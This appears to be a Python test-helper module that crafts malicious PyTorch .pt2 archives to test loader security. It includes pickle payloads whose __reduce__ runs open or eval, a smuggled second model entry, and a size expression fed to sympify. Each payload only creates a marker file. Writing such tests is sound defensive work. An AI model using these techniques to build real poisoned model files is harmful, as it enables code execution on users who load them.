"""Crafted .pt2 archives: the members of one (the `clean_pt2` fixture's, tests/unit/conftest.py) and the edits an
attacker makes to it (a pickled weight or sample inputs, a second model, a size expression). The payloads create a
marker file: proof that code ran."""

from __future__ import annotations

import json
import pickle
import zipfile
from pathlib import Path


class EvalPayload:
    """Unpickling this evaluates Python that creates the marker file (`__reduce__` is `eval`), then
    returns `value` (Python source) so that loading goes on as if nothing happened."""

    def __init__(self, marker: Path, value: str) -> None:
        self.marker, self.value = str(marker), value

    def __reduce__(self):
        return (eval, (f"(open({self.marker!r}, 'w').close(), {self.value})[1]",))


class Payload:
    """Unpickling this creates the marker file: proof that code from the file ran."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def members(src: Path) -> tuple[str, dict[str, bytes]]:
    """(root folder, {name inside the root: bytes})."""
    with zipfile.ZipFile(src) as z:
        root = z.namelist()[0].split("/", 1)[0]
        return root, {n.split("/", 1)[1]: z.read(n) for n in z.namelist()}


def write(dst: Path, root: str, files: dict[str, bytes], *, deflated: tuple[str, ...] = ()) -> Path:
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as z:
        for name, data in files.items():
            method = zipfile.ZIP_DEFLATED if name in deflated else zipfile.ZIP_STORED
            z.writestr(f"{root}/{name}", data, compress_type=method)
    return dst


def rewrite(src: Path, dst: Path, edit) -> None:
    """Copy a zip member by member; `edit(name_inside_archive, data)` returns the new bytes."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            inner = info.filename.split("/", 1)[1]
            zout.writestr(info.filename, edit(inner, zin.read(info.filename)))


def pickled_weight(marker: Path):
    def edit(inner: str, data: bytes) -> bytes:
        if inner == "data/weights/model_weights_config.json":
            config = json.loads(data)
            meta = config["config"]["blocks.0.0.weight"]
            meta["use_pickle"] = True
            meta["tensor_meta"] = None
            return json.dumps(config).encode()
        if inner == "data/weights/weight_0":
            return pickle.dumps(Payload(marker))
        return data

    return edit


def pickled_sample_inputs(marker: Path):
    def edit(inner: str, data: bytes) -> bytes:
        return pickle.dumps(Payload(marker)) if inner == "data/sample_inputs/model.pt" else data

    return edit


def pickled_constant(marker: Path):
    def edit(inner: str, data: bytes) -> bytes:
        if inner == "data/constants/model_constants_config.json":
            return json.dumps({"config": {"evil": {"path_name": "tensor_0", "is_param": False, "use_pickle": True,
                                                   "tensor_meta": None}}}).encode()
        return data

    return edit


def second_model(clean: Path, dst: Path, marker: Path, *, payload_in: str) -> Path:
    """The issue's attack: `models/pwnXXXXX` (torch loads every models/* member, naming it by cutting five
    characters), with its own weights config, constants config and sample inputs; the payload is a weight
    marked use_pickle or the sample inputs."""
    root, files = members(clean)
    files["models/pwnXXXXX"] = files["models/model.json"]
    weights = json.loads(files["data/weights/model_weights_config.json"])
    if payload_in == "weight":
        weights["config"]["evil"] = {"path_name": "evil_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
        files["data/weights/evil_0"] = pickle.dumps(EvalPayload(marker, "__import__('torch').zeros(1)"))
        files["data/sample_inputs/pwn.pt"] = files["data/sample_inputs/model.pt"]
    else:
        files["data/sample_inputs/pwn.pt"] = pickle.dumps(EvalPayload(marker, "((), {})"))
    files["data/weights/pwn_weights_config.json"] = json.dumps(weights).encode()
    files["data/constants/pwn_constants_config.json"] = files["data/constants/model_constants_config.json"]
    return write(dst, root, files)


def with_size_expression(clean: Path, dst: Path, expr: str) -> Path:
    """The graph's first size written as {"as_expr": {"expr_str": expr}} (`{hint}` in `expr` becomes the
    size): torch passes it to sympify."""
    root, files = members(clean)
    graph = json.loads(files["models/model.json"])
    for meta in graph["graph_module"]["graph"]["tensor_values"].values():
        if meta["sizes"] and "as_int" in meta["sizes"][0]:
            hint = meta["sizes"][0]["as_int"]
            meta["sizes"][0] = {"as_expr": {"expr_str": expr.replace("{hint}", str(hint)), "hint": {"as_int": hint}}}
            break
    files["models/model.json"] = json.dumps(graph).encode()
    return write(dst, root, files)
